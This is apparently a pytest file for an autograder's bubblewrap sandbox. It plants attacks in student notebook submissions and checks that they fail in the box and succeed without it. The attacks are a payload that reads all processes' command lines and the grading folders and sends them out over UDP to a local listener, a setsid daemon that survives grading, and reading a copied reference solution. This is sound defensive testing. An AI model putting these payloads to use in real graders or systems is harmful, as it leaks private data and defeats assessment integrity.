@@ -1,0 +1,212 @@
+"""The grading box (autograder.box): attacks that worked without it, tried with it and without it.
+
+Each attack is one submission of lesson 01 whose first solution cell does something a determined
+student did: read every process's command line and every grading folder and send them out over UDP,
+start a ``setsid`` daemon that outlives grading, or load the reference from a second copy of the
+project elsewhere on the machine. Each test grades the same submission twice: in the box (the attack
+must fail) and without it (the control: the attack works there, so the test can tell the two apart).
+Without ``bwrap`` these tests skip, except in CI (``CI`` set), where they fail: ``.ci/run`` installs it.
+"""
+import json
+import os
+import shutil
+import signal
+import socket
+import uuid
+from pathlib import Path
+
+import pytest
+
+from autograder.box import box_problem
+from autograder.exercises import exercises_for
+from autograder.feedback import render_feedback
+from autograder.grade import UNBOXED, GradeConfig, _lock_out, _prepare, grade_submissions
+from autograder.release import PROJECT_ROOT
+
+LESSON = "01_video_tensors"
+pytestmark = pytest.mark.xdist_group("demo-class")
+
+
+@pytest.fixture(autouse=True)
+def _needs_the_box():
+    problem = box_problem()
+    if problem is not None:
+        if os.environ.get("CI"):
+            pytest.fail(f"{problem}; in CI this is a failure (.ci/run installs bubblewrap)", pytrace=False)
+        pytest.skip(f"{problem} (outside CI this skips; set CI=1 to make it fail)")
+
+
+def _source() -> dict:
+    return json.loads((PROJECT_ROOT / "solutions" / LESSON / f"{LESSON}.ipynb").read_text())
+
+
+def _with_first_cell(code: str) -> dict:
+    """The instructor's solution with ``code`` run at the top of the first solution cell."""
+    nb = _source()
+    first = exercises_for(LESSON)[0].name
+    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == first)
+    body = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+    cell["source"] = code + "\n" + body
+    return nb
+
+
+def _grade(tmp_path: Path, nb: dict, *, box: bool, student: str = "attacker") -> dict:
+    path = tmp_path / "submitted" / student / LESSON / f"{LESSON}.ipynb"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps(nb))
+    results = grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out", seed=99,
+                                            box=box, assignments=[LESSON]), progress=False)
+    return next(r for r in results if r["student_id"] == student)
+
+
+def _listener() -> socket.socket:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind(("127.0.0.1", 0))
+    sock.settimeout(0.5)
+    return sock
+
+
+def _received(sock: socket.socket) -> bytes:
+    data = b""
+    try:
+        while True:
+            data += sock.recv(65536)
+    except (TimeoutError, socket.timeout):
+        return data
+
+
+EXFILTRATE = """
+import os as _os, socket as _socket
+_seen = []
+for _pid in _os.listdir('/proc'):
+    try:
+        _seen.append(open(f'/proc/{{_pid}}/cmdline', 'rb').read().replace(b'\\0', b' ')[:200])
+    except Exception:
+        pass
+try:
+    _seen += [_n.encode() for _n in _os.listdir(_os.path.dirname(_os.getcwd()))]
+except Exception:
+    pass
+try:
+    _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+    _s.sendto(b'LEAK ' + b'|'.join(_seen)[:60000], ('127.0.0.1', {port}))
+except Exception:
+    pass
+"""
+
+
+@pytest.mark.parametrize("box", [True, False], ids=["boxed", "unboxed-control"])
+def test_processes_and_grading_folders_cannot_be_seen_or_sent_out(tmp_path, box):
+    """Check that in the box a submission sees no other process and cannot reach 127.0.0.1 of the host."""
+    sock = _listener()
+    try:
+        rec = _grade(tmp_path, _with_first_cell(EXFILTRATE.format(port=sock.getsockname()[1])), box=box)
+        leaked = _received(sock)
+    finally:
+        sock.close()
+    assert all(r["score"] == r["max_score"] for r in rec["exercises"]), rec  # the attack costs nothing: it is not graded
+    if box:
+        assert leaked == b""
+    else:  # the control: without the box the grader's processes and folders go out over UDP
+        assert leaked.startswith(b"LEAK ") and b"autograder._child" in leaked
+
+
+def _processes_with(marker: str) -> list[int]:
+    found = []
+    for pid in os.listdir("/proc"):
+        try:
+            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
+                found.append(int(pid))
+        except (OSError, ValueError):
+            continue
+    return found
+
+
+@pytest.mark.parametrize("box", [True, False], ids=["boxed", "unboxed-control"])
+def test_a_setsid_daemon_does_not_outlive_grading(tmp_path, box):
+    """Check that a process started in its own session dies with the box (the kernel kills the PID namespace)."""
+    seconds = f"{300 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**6:06d}"  # a unique command line
+    code = f"import subprocess as _sp\n_sp.Popen(['sleep', '{seconds}'], start_new_session=True)\n"
+    try:
+        rec = _grade(tmp_path, _with_first_cell(code), box=box)
+        assert all(r["score"] == r["max_score"] for r in rec["exercises"]), rec
+        alive = _processes_with(seconds)
+        if box:
+            assert alive == [], "a daemon started by the submission outlived the box"
+        else:  # the control: killpg misses a new session
+            assert alive, "the unboxed control should leave the daemon running (the test cannot tell otherwise)"
+    finally:
+        for pid in _processes_with(seconds):
+            os.kill(pid, signal.SIGKILL)
+
+
+def test_a_second_copy_of_the_project_is_not_in_the_box(tmp_path):
+    """Check that a copy of the reference elsewhere on the machine is invisible in the box, and usable without it."""
+    ex = exercises_for(LESSON)[0]
+    copy = tmp_path / "elsewhere" / "layout.py"
+    copy.parent.mkdir()
+    shutil.copy(PROJECT_ROOT / "course" / "video" / "layout.py", copy)
+    nb = _source()
+    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
+    cell["source"] = (f"_ns = {{}}\nexec(open({str(copy)!r}).read(), _ns)\n{ex.name} = _ns[{ex.name!r}]\n")
+    boxed = _grade(tmp_path / "boxed", nb, box=True)
+    assert boxed["exercises"][0]["score"] == 0
+    assert "No such file" in json.dumps(boxed["cell_errors"])
+    unboxed = _grade(tmp_path / "unboxed", nb, box=False)  # the control: without the box the copy is read
+    assert unboxed["exercises"][0]["score"] == unboxed["exercises"][0]["max_score"]
+
+
+def test_the_reference_module_is_not_readable_in_the_box(tmp_path):
+    """Check that the graded exercise's reference module cannot be read in the box (/dev/null there, and Landlock)."""
+    ex = exercises_for(LESSON)[0]
+    origin = PROJECT_ROOT / "course" / "video" / "layout.py"
+    nb = _with_first_cell(f"try:\n    _text = open({str(origin)!r}).read()\nexcept OSError:\n    _text = ''\n"
+                          f"assert 'def {ex.name}' not in _text, 'the reference was read'\n")
+    rec = _grade(tmp_path, nb, box=True)
+    assert rec["cell_errors"] == [] and rec["exercises"][0]["score"] == rec["exercises"][0]["max_score"], rec
+    assert ex.reference_module == "course.video.layout"
+
+
+def test_feedback_says_unboxed_and_never_shows_sandbox_internals(tmp_path):
+    """Check that the student's page says how the submission was graded, not which user or mechanism ran it."""
+    boxed = _grade(tmp_path / "a", _source(), box=True, student="s1")
+    unboxed = _grade(tmp_path / "b", _source(), box=False, student="s2")
+    assert boxed["sandbox_notes"], "the instructor's record keeps the sandbox notes"
+    for rec in (boxed, unboxed):
+        page = render_feedback(rec)
+        assert all(note not in page for note in rec["sandbox_notes"])
+        assert "root" not in page
+    assert UNBOXED not in render_feedback(boxed) and UNBOXED in render_feedback(unboxed)
+
+
+def test_a_second_grading_run_on_the_same_output_is_refused(tmp_path):
+    """Check that two graders cannot write one output folder at once (the second is refused with a message)."""
+    out = tmp_path / "out"
+    out.mkdir()
+    held = _lock_out(out)
+    try:
+        (tmp_path / "submitted").mkdir()
+        with pytest.raises(RuntimeError, match="another grading run"):
+            grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=out), progress=False)
+    finally:
+        held.close()
+    grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=out), progress=False)  # free again
+
+
+def test_hidden_cases_are_readable_by_the_grader_alone(tmp_path):
+    """Check that the file of hidden inputs is mode 600 (no other user reads it while grading runs)."""
+    cfg = GradeConfig(submissions=tmp_path, out=tmp_path / "out", seed=5)
+    prep = _prepare(cfg, LESSON, tmp_path)
+    assert prep.inputs_file.stat().st_mode & 0o077 == 0
+    assert str(PROJECT_ROOT / "course" / "video" / "layout.py") in prep.hidden_files
+
+
+def test_grading_refuses_without_the_box_unless_told(tmp_path, monkeypatch):
+    """Check that official grading fails closed where the box cannot be built, naming the fix."""
+    from autograder import grade
+
+    monkeypatch.setattr(grade, "box_problem", lambda: "bubblewrap (bwrap) is not installed")
+    (tmp_path / "submitted").mkdir()
+    with pytest.raises(RuntimeError, match="--no-box"):
+        grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out"), progress=False)
+    grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out", box=False), progress=False)
